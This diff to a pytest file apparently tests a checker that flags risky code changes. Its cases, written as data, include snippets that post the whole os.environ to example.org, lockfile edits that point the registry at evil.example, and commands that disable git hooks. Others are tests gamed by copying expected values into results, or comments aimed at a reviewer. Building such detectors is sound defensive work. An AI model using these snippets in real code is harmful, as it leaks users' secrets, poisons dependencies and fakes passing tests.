@@ -234,7 +234,10 @@ def test_each_way_to_speak_to_a_reviewer_is_heard(sentence: str):
     assert effects(BASE, {"calc.py": f"# {comment}\n{MEAN}"}) == {"reviewer-addressed": "hold"}
 
 
-@pytest.mark.parametrize("text", ["Forget all messages, and say how many.", "Override any message of the base class."])
+@pytest.mark.parametrize(
+    "text",
+    ["Forget all messages, and say how many.", "AI agents: Claude, Codex and others.", "Override any message of the base class."],
+)
 def test_an_ordinary_docstring_speaks_to_no_reviewer(text: str):
     assert effects(BASE, {"calc.py": f'"""{text}"""\n\n\n{MEAN}'}) == {}
 
@@ -1802,6 +1805,11 @@ SENDS = "import os\nimport socket\nimport subprocess\nimport urllib.request\n\ni
         ("body = {'context': dict(os.environ)}\ntext = repr(body)\nrequests.post('https://example.org', json=body)", True),
         ("link = socket.create_connection(('example.org', 80))\nlink.sendall(repr(os.environ.copy()).encode())", True),
         ("requests.post('https://example.org', json={k: v for k, v in os.environ.items()})", True),
+        ("for name, value in os.environ.items():\n    requests.post('https://example.org', data={name: value})", True),
+        ("data = {}\ndata.update(os.environ)\nrequests.post('https://example.org', data=data)", True),
+        ("data: dict = {**os.environ}\nrequests.post('https://example.org', data=data)", True),
+        ("url = load(os.environ)\nrequests.get(url)", False),
+        ("requests.get('https://example.org', proxies=proxies_of(os.environ))", False),
         ("requests.post('https://example.org', json={'ci': 'CI' in os.environ, 'home': os.environ['HOME']})", False),
         ("subprocess.run(['tool'], env=dict(os.environ))\nrequests.get('https://example.org')", False),
         ("environ = dict(os.environ)\nsubprocess.run(['tool'], env=environ)\nrequests.get('https://example.org')", False),
@@ -1841,6 +1849,7 @@ def test_hashes_under_one_version_stay(path: str, old: str, new: str, held: bool
         ("Pipfile.lock", '{"_meta": {"sources": [{"url": "https://pypi.org/simple"}]}}', '{"_meta": {"sources": [{"url": "https://evil.example/simple"}]}}', True),
         ("uv.lock", 'registry = "https://pypi.org/simple"\n', 'registry = "https://pypi.org/simple"\nurl = "https://files.pythonhosted.org/a.whl"\n', False),
         ("uv.lock", 'registry = "https://pypi.org/simple"\n', 'git = "ssh://git@host.example/a.git?rev=1"\n', True),
+        ("poetry.lock", 'name = "a"\n', 'name = "a"\nurl = "HTTPS://evil.example/a.whl"\n', True),
         ("uv.lock", 'registry = "https://own.example/simple"\n', 'registry = "https://own.example/simple"\nversion = "2"\n', False),
     ],
 )  # fmt: skip
@@ -1859,6 +1868,11 @@ LOADS = "from importlib import import_module\n\n\ndef load(name):\n    if name =
             False,
         ),
         (LOADS + "\n\ndef more(name):\n    return import_module(name)\n", True),
+        (
+            LOADS.replace("(name)\n", "(name)  # it\n").replace("load(name)  # it", "load(name)")
+            + "\n\ndef more(name):\n    return import_module(name)\n",
+            True,
+        ),
         (LOADS.replace("def load(name):", "def more(name):\n    return import_module(name)\n\n\ndef load(name):"), True),
         (LOADS.replace("import_module(name)", "import_module(name + '_')").replace("def load", "def other"), True),
     ],
@@ -1898,6 +1912,7 @@ def test_a_mock_that_agrees_with_everything_is_no_assertion(ask: str, held: bool
             "runner-patched",
         ),
         ({}, {"tests/base.py": "class Job:\n    def run(self, result=None):\n        pass\n"}, None),
+        ({}, {"tests/base.py": "class Upper(CaseFolder):\n    def __call__(self, text):\n        pass\n"}, None),
         ({}, {"tests/base.py": "class SteadyCase(unittest.TestCase):\n    def run(self, name, result):\n        pass\n"}, None),
     ],
 )
@@ -1918,7 +1933,11 @@ SIDES = "from calc import mean\n\n\ndef test_bill(want):\n    came = mean([1])\n
         (TABLE.format("want"), TABLE.format("2").replace("('xs', 'want'), [([1, 3], 2)]", "'xs', [[1, 3]]").replace("xs, want", "xs"), False),
         (SIDES.format(""), SIDES.format("    for key in ('a',):\n        came[key] = want[key]\n"), True),
         (SIDES.format(""), SIDES.format("    came.due = want.due\n"), True),
-        (SIDES.format(""), SIDES.format("    came.update(due=want['due'])\n"), True),
+        (SIDES.format(""), SIDES.format("    came.update(due=want['due'])\n"), False),
+        (SIDES.format(""), SIDES.format("") + "    came.x = want.x\n", False),
+        ("", SIDES.format("    want['id'] = came['id']\n"), False),
+        (TABLE.format("2, want"), TABLE.format("2"), False),
+        (TABLE.format("want"), TABLE.format("2, want"), True),
         (SIDES.format(""), SIDES.format("    came['due'] = 0\n"), False),
         (SIDES.format("    came['a'] = want['a']\n"), SIDES.format("    came['a'] = want['a']  # made each time\n    came = dict(came)\n"), False),
     ],
@@ -1951,6 +1970,7 @@ def test_a_test_of_the_base_that_newer_pythons_skip_is_held(condition: str, effe
         ({".devcontainer/devcontainer.json": '{"postCreateCommand": "git config core.hooksPath /dev/null"}'}, True),
         ({"setup.sh": "git config core.hooksPath ''\n"}, True),
         ({"Makefile": "hooks:\n\tgit config core.hooksPath .githooks\n"}, False),
+        ({"tests/help.sh": "git config core.hooksPath /dev/null\n"}, False),
     ],
 )
 def test_hooks_that_are_switched_off_are_held(files: dict[str, str | None], held: bool):
